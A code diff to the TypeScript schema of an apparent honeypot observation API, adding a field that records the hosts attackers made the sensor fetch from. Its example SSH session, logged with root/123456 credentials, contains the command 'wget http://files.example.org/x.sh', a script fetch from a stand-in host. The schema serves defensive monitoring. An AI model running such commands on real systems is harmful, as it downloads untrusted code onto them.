@@ -92,6 +92,20 @@ const observationSchema = z
       ),
     established: z.boolean().describe("Whether it proves that the source receives what is sent to it."),
     ...shapeOf(SHOWN, SCHEMAS),
+    callbacks: z
+      .array(
+        z
+          .strictObject({
+            host: text.describe("An IPv4 address or a name in lower case."),
+            port: z.int().min(1).max(65_535).optional().describe("Missing where neither text nor scheme says one."),
+            scheme: text,
+            path: optionalText(),
+            sha256: optionalText().describe("Of what the sensor fetched from there."),
+          })
+          .meta({ id: "ObservationCallback" }),
+      )
+      .optional()
+      .describe("The hosts that it told the sensor to fetch from or to connect to."),
     http: z.strictObject(shapeOf(STORED_HTTP, SCHEMAS)).optional(),
     tls: z.strictObject(shapeOf(TLS, SCHEMAS)).optional(),
     ssh: z.strictObject(shapeOf(SSH, SCHEMAS)).optional(),
@@ -142,7 +156,8 @@ export const getAddressObservations = defineOperation({
           destination_port: 22,
           transport: "tcp",
           credentials: [{ username: "root", password: "123456" }],
-          commands: ["uname -a"],
+          commands: ["wget http://files.example.org/x.sh"],
+          callbacks: [{ host: "files.example.org", port: 80, scheme: "http", path: "/x.sh" }],
           tags: [
             {
               id: EXAMPLE_TAG.id,
